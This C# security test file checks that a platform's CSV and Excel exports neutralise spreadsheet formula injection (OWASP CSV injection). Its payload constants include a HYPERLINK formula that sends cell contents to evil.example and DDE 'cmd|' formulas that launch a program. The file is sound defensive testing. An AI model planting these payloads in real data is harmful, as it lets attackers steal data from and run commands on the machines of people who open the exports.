using System.Text;
using FactoryPath.Core.Tests.Tabular;
using FactoryPath.Web.Accounts;
using FactoryPath.Web.Tests.Catalog.Import;

namespace FactoryPath.Web.Tests.Security;

/// <summary>
/// OWASP "CSV Injection": formulas stored in free-text fields (a provider's name and description, a solution's titles,
/// an enterprise's name, an application's purpose) come out of every export that shows them as text — in CSV with an
/// apostrophe in front, so no cell of the file starts with = + - @, a tab or a carriage return; in .xlsx as text cells
/// without a formula — and the pool's exports import back unchanged.
/// </summary>
public sealed class FormulaInjectionTests : IClassFixture<FormulaInjectionTests.World>
{
    public const string Hyperlink = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点击查看详情\")";
    public const string Command = "+cmd|' /C calc'!A0";
    public const string Sum = "@SUM(1)";
    public const string Minus = "-2+3+cmd|' /C calc'!A0";
    private readonly World _w;

    public FormulaInjectionTests(World world) => _w = world;

    public sealed class World : IAsyncLifetime
    {
        public PlatformFactory Factory { get; } = new();
        public ApiClient Operator { get; private set; } = default!;
        public ApiClient Ningbo { get; private set; } = default!;
        public Guid Programme { get; private set; }

        public async Task InitializeAsync()
        {
            Operator = await Users.WithRoleAsync(Factory, PlatformRoles.PlatformAdmin);
            var provider = await Operator.Http.PostAsJsonAsync("/api/v1/pool/providers", new
            {
                name = Hyperlink, creditCode = Codes.NewCreditCode("330100"), regionCode = "330100", regionsServed = new[] { "330000" }, industries = new[] { "34" },
                scenarios = new[] { "equipment-monitoring" }, certifications = new[] { "ISO 9001" }, teamSize = 30, descriptionZh = Command, descriptionEn = Sum,
                website = "https://example.cn",
            });
            Assert.Equal(HttpStatusCode.Created, provider.StatusCode);
            var solution = Pool.PoolWorld.Solution(Sum, (await ApiClient.ReadAsync(provider)).GetProperty("id").GetGuid());
            solution["titleEn"] = Minus;
            solution["descriptionZh"] = Hyperlink;
            Assert.Equal(HttpStatusCode.Created, (await Operator.Http.PostAsJsonAsync("/api/v1/pool/solutions", solution)).StatusCode);

            Ningbo = await Users.WithRoleAsync(Factory, PlatformRoles.RegionalAdmin, "330200");
            Programme = await Programmes.Programmes.CreateAsync(Ningbo, Programmes.Programmes.Body());
            var (enterprise, _) = await Programmes.Programmes.EnterpriseAsync(Factory, Hyperlink);
            Assert.Equal(HttpStatusCode.Created, (await Programmes.Programmes.ApplyAsync(enterprise, Programme, 50_000, purpose: Command)).StatusCode);
        }

        public Task DisposeAsync()
        {
            Factory.Dispose();
            return Task.CompletedTask;
        }
    }

    /// <summary>The fields of a CSV text as a spreadsheet sees them (RFC 4180 quotes removed, nothing else).</summary>
    private static List<string> RawFields(string text)
    {
        var fields = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c != '"') field.Append(c);
                else if (i + 1 < text.Length && text[i + 1] == '"') { field.Append('"'); i++; }
                else quoted = false;
            }
            else if (c == '"' && field.Length == 0) quoted = true;
            else if (c is ',' or '\n') { fields.Add(field.ToString()); field.Clear(); }
            else if (c != '\r' && c != '\uFEFF') field.Append(c);
        }
        fields.Add(field.ToString());
        return fields;
    }

    private static async Task<byte[]> DownloadAsync(ApiClient client, string path)
    {
        var response = await client.Http.GetAsync(path);
        Assert.True(response.StatusCode == HttpStatusCode.OK, $"{path}: {(int)response.StatusCode} {await response.Content.ReadAsStringAsync()}");
        return await response.Content.ReadAsByteArrayAsync();
    }

    private static void AssertCsvNeutralised(byte[] csv, IEnumerable<string> shown)
    {
        var fields = RawFields(FactoryPath.Core.Tabular.TextEncodings.Decode(csv).Text);
        var running = fields.Where(f => f.Length > 0 && f[0] is '=' or '+' or '-' or '@' or '\t' or '\r').ToList();
        Assert.True(running.Count == 0, "cells a spreadsheet would run: " + string.Join(" | ", running));
        foreach (var text in shown) Assert.Contains("'" + text, fields);
    }

    private static void AssertXlsxText(byte[] xlsx, IEnumerable<string> shown)
    {
        var cells = XlsxPackage.Cells(xlsx);
        Assert.All(cells, c => Assert.Null(c.Formula));
        foreach (var text in shown)
        {
            var cell = Assert.Single(cells, c => c.Text == text);
            Assert.True(cell.IsText, $"{cell.Reference} holding {text} is stored as t={cell.Type}");
        }
    }

    [Theory]
    [InlineData("providers", new[] { Hyperlink, Command, Sum })]
    [InlineData("solutions", new[] { Sum, Minus, Hyperlink })]
    public async Task Pool_exports_neutralise_formulas_and_import_back_unchanged(string kind, string[] shown)
    {
        foreach (var encoding in new[] { "utf-8", "gb18030" })
        {
            var csv = await DownloadAsync(_w.Operator, $"/api/v1/pool/{kind}/export?format=csv&headers=en&encoding={encoding}");
            AssertCsvNeutralised(csv, shown);
            var report = await _w.Operator.ImportAsync(kind, "validate", csv, $"{kind}.csv");
            Assert.Equal(0, report.GetProperty("rejected").GetInt32());
            Assert.Equal(report.GetProperty("rows").GetInt32(), report.GetProperty("unchanged").GetInt32());
        }

        var xlsx = await DownloadAsync(_w.Operator, $"/api/v1/pool/{kind}/export?format=xlsx&headers=zh");
        AssertXlsxText(xlsx, shown);
        var fromXlsx = await _w.Operator.ImportAsync(kind, "validate", xlsx, $"{kind}.xlsx");
        Assert.Equal(fromXlsx.GetProperty("rows").GetInt32(), fromXlsx.GetProperty("unchanged").GetInt32());
    }

    [Fact]
    public async Task Programme_application_exports_show_a_formula_named_enterprise_as_text()
    {
        var path = $"/api/v1/programmes/{_w.Programme}/applications/export";
        AssertCsvNeutralised(await DownloadAsync(_w.Ningbo, path + "?format=csv"), [Hyperlink, Command]);
        AssertXlsxText(await DownloadAsync(_w.Ningbo, path + "?format=xlsx"), [Hyperlink, Command]);
    }
}
